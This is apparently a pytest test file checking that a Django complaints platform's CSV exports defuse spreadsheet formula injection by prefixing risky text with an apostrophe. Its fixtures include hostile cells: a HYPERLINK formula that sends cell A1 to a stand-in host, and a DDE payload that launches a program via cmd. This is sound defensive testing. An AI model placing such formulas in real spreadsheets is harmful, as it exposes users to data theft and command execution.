"""Every CSV the platform writes keeps text that starts like a spreadsheet formula as text
(a leading apostrophe), while real numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from complaints.api.stats import CSVRenderer
from complaints.csv_cells import csv_cell, csv_row
from complaints.services.statistics import statistics_refresh
from tests.complaints.views.test_public import public_world

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=1", "a=1"),
        ("快送外卖", "快送外卖"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_starting_like_a_formula_gets_an_apostrophe(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("value", [-3, -12.5, Decimal("-0.25"), 0, 7, "-3", "+12.50", "-0.5"])
def test_real_numbers_stay_numbers(value):
    assert csv_cell(value) == value


def test_the_renderer_defuses_text_and_keeps_negative_figures():
    data = {
        "columns": [{"key": "app"}, {"key": "change"}, {"key": "note"}],
        "results": [{"app": HYPERLINK, "change": -3, "note": "@SUM(1)"}],
    }
    rows = list(csv.reader(io.StringIO(CSVRenderer().render(data).decode("utf-8-sig"))))
    assert rows == [["app", "change", "note"], ["'" + HYPERLINK, "-3", "'@SUM(1)"]]


def test_the_renderer_defuses_error_messages_too():
    data = {"error": {"code": "invalid", "message": "=1+1 is not a page"}}
    rows = list(csv.reader(io.StringIO(CSVRenderer().render(data).decode("utf-8-sig"))))
    assert rows[1] == ["invalid", "'=1+1 is not a page"]


def test_csv_row_keeps_the_order():
    assert csv_row(["=a", 1, None, "b"]) == ["'=a", 1, "", "b"]


@pytest.fixture
def hostile_world(app, other_app, rita, olivia):
    world = public_world(app=app, other_app=other_app, rita=rita, olivia=olivia)
    app.name = HYPERLINK
    app.save()
    app.operator.name = "@SUM(A1:A9)"
    app.operator.save()
    statistics_refresh()
    return world


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_public_open_data_csv_is_defused(client, hostile_world):
    rows = rows_of(client.get("/api/v1/stats/top_apps/", {"format": "csv"}))
    assert ["'" + HYPERLINK, "'@SUM(A1:A9)"] in [row[1:3] for row in rows]
    # Figures are written as numbers.
    assert all(row[3].isdigit() for row in rows[1:])


@pytest.mark.django_db
def test_public_board_csv_is_defused(client, hostile_world):
    rows = rows_of(client.get("/api/v1/public/board/", {"format": "csv"}))
    assert "'" + HYPERLINK in [row[1] for row in rows]
    assert HYPERLINK not in [cell for row in rows for cell in row]


@pytest.mark.django_db
def test_regulator_dashboard_csv_is_defused(client, rita, hostile_world):
    client.force_login(rita)
    rows = rows_of(client.get("/dashboard/csv/top_apps/", HTTP_ACCEPT_LANGUAGE="en"))
    assert ["'" + HYPERLINK, "'@SUM(A1:A9)"] in [row[1:3] for row in rows]


@pytest.mark.django_db
def test_import_error_report_is_defused(tmp_path):
    path = tmp_path / "hostile.jsonl"
    path.write_text(
        '{"external_id": "=HYPERLINK(\\"http://x.example\\")", "app_name": "A", '
        '"description": ""}\n',
        encoding="utf-8",
    )
    call_command("import_complaints", str(path), "--no-classify", stdout=io.StringIO())
    with (tmp_path / "hostile.jsonl.errors.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["external_id"] == '\'=HYPERLINK("http://x.example")'
